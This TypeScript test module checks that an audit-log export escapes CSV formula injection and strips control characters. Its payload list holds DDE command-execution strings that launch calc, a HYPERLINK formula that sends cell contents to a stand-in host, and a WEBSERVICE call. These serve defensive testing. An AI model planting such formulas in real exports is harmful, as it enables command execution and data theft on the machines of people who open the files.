import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { AuditLogger, SpoorDatabase } from '@spoor/storage';
import fc from 'fast-check';
import type { Attack, Outcome, Scale } from '../attack.ts';
import { HOSTILE_TEXTS } from '../support/hostile-text.ts';
import { inPlace, type Place } from '../support/place.ts';
import { readCsv } from '../support/read-csv.ts';
import { runCommand } from '../support/run-command.ts';

/** Exports of an audit log that wants to be calculated. */
export const spreadsheet: Attack = {
  name: 'spreadsheet',
  promise: 14,
  does: 'formulas and control characters in every field of what is exported',
  run: (scale) => inPlace((place) => run(place, scale)),
};

/** What spreadsheets calculate, or have done so. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://example.com?"&A1)',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://example.com")',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '"=1',
  "'=1",
  '"" =1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1+1',
  'x;=1+1;y',
  'x\t=1+1\ty',
  'x|=1+1|y',
  'x\n=1+1\ny',
  'x\r\n@y',
  'x",=1+1,"y',
  'x,"=1+1","y',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  ';-1',
  '%0A=1',
  "-2+3+cmd|' /C calc'!D2",
];

const SIGN = '[=+@\\u2212\\uff1d\\uff0b\\uff0d\\uff20-]';
const BLANK = '[\\s\'"`\\u00ad\\ufe0e\\ufe0f\\u200b-\\u200d\\u2060\\ufeff]*';

const FIELDS = [
  'agent',
  'action',
  'projectId',
  'taskId',
  'sessionId',
  'userId',
  'ipAddress',
] as const;

async function run(place: Place, scale: Scale): Promise<Outcome> {
  const texts = [
    ...FORMULAS,
    ...Object.values(HOSTILE_TEXTS),
    ...fc.sample(anyText(), { numRuns: scale === 'full' ? 20_000 : 1_000, seed: 4_180 }),
  ];
  const faults = new Set<string>();
  const entries = record(place, texts);
  const csv = await exported(place, 'csv', faults);
  const cells = checkCsv(csv, entries, faults);
  for (const format of ['json', 'jsonl'] as const) {
    const text = await exported(place, format, faults);
    const read =
      format === 'json'
        ? JSON.parse(text)
        : text
            .trimEnd()
            .split('\n')
            .map((line) => JSON.parse(line));
    checkExact(read, entries, format, faults);
  }
  const rows = (await runCommand(place, ['export'])).stdout.toString();
  checkControls('export', rows, faults);
  return {
    figures: { 'texts exported': texts.length, 'cells of CSV read back': cells },
    faults: [...faults].slice(0, 20),
  };
}

/** Signs that mean something to a spreadsheet, and any other text. */
function anyText(): fc.Arbitrary<string> {
  const signs = [...'=+-@＝＋－＠−\'"`,;|\t\r\n \u00a0\u00ad\u200bab1()!\u001b\u009b\u202e\u2028'];
  return fc.oneof(
    fc.array(fc.constantFrom(...signs), { maxLength: 12 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary', maxLength: 30 }),
  );
}

/** @returns what the store says that it keeps, by id. */
function record(place: Place, texts: readonly string[]): Map<string, Entry> {
  const db = new SpoorDatabase({ path: place.databasePath });
  try {
    const log = new AuditLogger(db);
    db.transaction(() => {
      for (const [index, text] of texts.entries()) {
        const said = text.trim() === '' ? `x${text}` : text;
        const field = FIELDS[index % FIELDS.length] ?? 'agent';
        log.log({
          action: 'a',
          category: 'user',
          [field]: said,
          details: { [said]: said, number: -index },
        });
      }
    });
    const entries = log.query({ limit: 1_000_000 }) as unknown as Entry[];
    return new Map(entries.map((entry) => [entry.id, entry]));
  } finally {
    db.close();
  }
}

type Entry = Readonly<Record<string, unknown>> & { readonly id: string };

async function exported(place: Place, format: string, faults: Set<string>): Promise<string> {
  const path = join(place.home, `out.${format}`);
  const piped = await runCommand(place, ['audit', 'export', '--format', format]);
  const filed = await runCommand(place, ['audit', 'export', '--format', format, '--output', path]);
  for (const { status } of [piped, filed])
    if (status !== 0) faults.add(`an export ended with ${status}`);
  const text = piped.stdout.toString();
  // The second export has one entry more, which tells of the first.
  if (format !== 'json' && !readFileSync(path, 'utf8').startsWith(text))
    faults.add(`${format}: file and pipe differ`);
  checkControls(format, text, faults);
  return text;
}

function checkControls(what: string, text: string, faults: Set<string>): void {
  const found =
    /(?!\r?\n)\p{Cc}|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u.exec(text);
  if (found !== null) {
    const near = JSON.stringify(text.slice(Math.max(0, found.index - 20), found.index + 20));
    faults.add(`${what}: U+${found[0].codePointAt(0)?.toString(16)} in ${near}`);
  }
}

/** @returns how many cells were looked at. */
function checkCsv(csv: string, entries: ReadonlyMap<string, Entry>, faults: Set<string>): number {
  const [head = [], ...records] = readCsv(csv);
  if (records.length !== entries.size)
    faults.add(`${records.length} records of ${entries.size} entries`);
  for (const record of records) {
    const entry = entries.get(record[0] ?? '');
    for (const [column, cell] of record.entries()) {
      const name = head[column] ?? '';
      if (isLive(cell)) faults.add(`${name}: live: ${JSON.stringify(cell)}`);
      checkBack(name, cell, entry?.[name], faults);
    }
  }
  // Who reads other separators sees other cells.
  for (const separator of [';', '\t', '|']) {
    for (const line of csv.split(/\r?\n/)) {
      const live = line.split(separator).slice(1).find(isLive);
      if (live !== undefined)
        faults.add(`split by ${JSON.stringify(separator)}: live: ${JSON.stringify(live)}`);
    }
  }
  return records.length * head.length;
}

const LIVE = new RegExp(`(^|\\n)(?!')${BLANK}${SIGN}`);

function isLive(cell: string): boolean {
  return LIVE.test(cell);
}

/** Without its apostrophes a cell is what it was, unless it held what no cell may. */
function checkBack(name: string, cell: string, was: unknown, faults: Set<string>): void {
  const text = was == null ? '' : typeof was === 'string' ? was : JSON.stringify(was);
  if (
    /(?!\r?\n|[\u00ad\u200c\u200d]|\ufe0e|\ufe0f)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}]/u.test(
      text,
    )
  )
    return;
  if (/[\p{Co}\p{Cn}\p{M}\p{Default_Ignorable_Code_Point}]/u.test(text) && name === 'details')
    return;
  const back = cell.replace(new RegExp(`(?<=^|[\\n;|])'(?=${BLANK}${SIGN})`, 'g'), '');
  if (back !== text)
    faults.add(`${name}: ${JSON.stringify(text)} came back as ${JSON.stringify(back)}`);
}

function checkExact(
  read: readonly Entry[],
  entries: ReadonlyMap<string, Entry>,
  format: string,
  faults: Set<string>,
): void {
  for (const entry of read) {
    const was = entries.get(entry.id);
    if (was === undefined) continue;
    for (const name of [...FIELDS, 'details']) {
      if (JSON.stringify(entry[name]) !== JSON.stringify(was[name]))
        faults.add(`${format}: ${name} changed`);
    }
  }
  if (read.filter(({ id }) => entries.has(id)).length !== entries.size)
    faults.add(`${format}: entries are missing`);
}
